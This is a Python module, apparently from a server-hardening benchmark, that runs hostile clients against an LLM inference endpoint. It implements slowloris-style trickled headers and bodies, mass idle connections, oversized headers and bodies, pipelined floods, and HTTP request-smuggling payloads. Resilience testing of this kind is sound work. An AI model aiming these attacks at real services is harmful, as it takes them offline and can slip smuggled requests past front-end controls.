"""Kinds of clients that mean harm or are broken, each with how many connections or requests a second there are.

python -m benchmarks.hostility.attacks KIND URL MODEL   attack until the process is ended; prints a line when it begins
"""

from __future__ import annotations

import asyncio
import itertools
import json
import socket
import sys
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from urllib.parse import urlsplit

Attack = Callable[["Target"], Awaitable[None]]
_POST = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
_HEALTH = b"GET /health HTTP/1.1\r\nhost: localhost\r\n\r\n"
# What two servers could read differently, and a request hidden behind it.
_AMBIGUOUS = [
    _POST + b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + _HEALTH,
    _POST + b"transfer-encoding: chunked\r\ncontent-length: 40\r\n\r\n0\r\n\r\n" + _HEALTH,
    _POST + b"content-length: 2\r\ncontent-length: 40\r\n\r\n{}" + _HEALTH,
    _POST + b"x-a: b\r\n c\r\ncontent-length: 2\r\n\r\n{}" + _HEALTH,
]
_OTHER_PROTOCOLS = [
    b"GET /health HTTP/1.0\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
]
_A_SECOND = 50


class Target:
    """The service that is attacked.

    Args:
        url: its address.
        model: what it serves.
    """

    def __init__(self, url: str, model: str) -> None:
        address = urlsplit(url)
        self.host, self.port, self.model = address.hostname or "", address.port or 80, model

    def begun(self) -> None:
        """Tell whoever started this process that the attack is at its height."""
        print("begun", flush=True)

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A new connection."""
        return await asyncio.open_connection(self.host, self.port)


def _connections(count: int, first: bytes, trickled: bytes = b"") -> Attack:
    """So many connections that send `first`, and then a byte a second; those that end are opened again."""

    async def attack(target: Target) -> None:
        async def one(number: int) -> None:
            while True:
                with suppress(OSError):
                    _, writer = await target.connect()
                    writer.write(first)
                    is_open.add(number)
                    while not writer.transport.is_closing():
                        await asyncio.sleep(1)
                        writer.write(trickled)

        is_open: set[int] = set()
        running = [asyncio.create_task(one(number)) for number in range(count)]
        while len(is_open) < count:
            await asyncio.sleep(0.1)
        target.begun()
        await asyncio.gather(*running)

    return attack


def _repeated(requests: Sequence[bytes], a_second: float = _A_SECOND) -> Attack:
    """Requests one after another, each on a connection of its own; what comes back is read to its end."""

    async def attack(target: Target) -> None:
        async def one(request: bytes) -> None:
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(30):
                    reader, writer = await target.connect()
                    writer.write(request)
                    with suppress(OSError):
                        await writer.drain()
                    if writer.can_write_eof():
                        writer.write_eof()
                    while await reader.read(1 << 16):
                        pass
                    writer.close()

        target.begun()
        async with asyncio.TaskGroup() as group:
            for request in itertools.cycle(requests):
                group.create_task(one(request))
                await asyncio.sleep(1 / a_second)

    return attack


async def _never_read(target: Target) -> None:
    """Long replies, none of which is read."""
    body = {"model": target.model, "messages": [{"role": "user", "content": "Tell me a story."}], "stream": True}
    body |= {"max_tokens": 200, "min_tokens": 200, "ignore_eos": True, "logprobs": True, "top_logprobs": 20}
    raw = json.dumps(body).encode()
    opened = []
    for _ in range(32):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.connect((target.host, target.port))
        one.sendall(_POST + b"content-length: %d\r\n\r\n" % len(raw) + raw)
        opened.append(one)
    # What they cost the engine, any client costs it.
    await asyncio.sleep(15)
    target.begun()
    await asyncio.Event().wait()


ATTACKS: dict[str, Attack] = {
    "1,000 connections that say nothing": _connections(1000, b""),
    "1,000 heads that come a byte a second": _connections(1000, _POST + b"x-a: ", b"y"),
    "1,000 bodies that come a byte a second": _connections(1000, _POST + b"content-length: 100000\r\n\r\n{", b" "),
    "32 clients that never read their replies": _never_read,
    "headers of 40 MB, 2 a second": _repeated([_POST + b"x-a: " + b"y" * 40_000_000], 2),
    "bodies of 1 MB of brackets, 2 a second": _repeated(
        [_POST + b"connection: close\r\ncontent-length: 1000000\r\n\r\n" + b"[" * 1_000_000], 2
    ),
    "100 requests at once on a connection, 5 a second": _repeated([_HEALTH * 100], 5),
    "smuggled requests, 50 a second": _repeated(_AMBIGUOUS),
    "HTTP/1.0, HTTP/2 and TLS, 50 a second": _repeated(_OTHER_PROTOCOLS),
}


if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](Target(sys.argv[2], sys.argv[3])))  # type: ignore[arg-type]
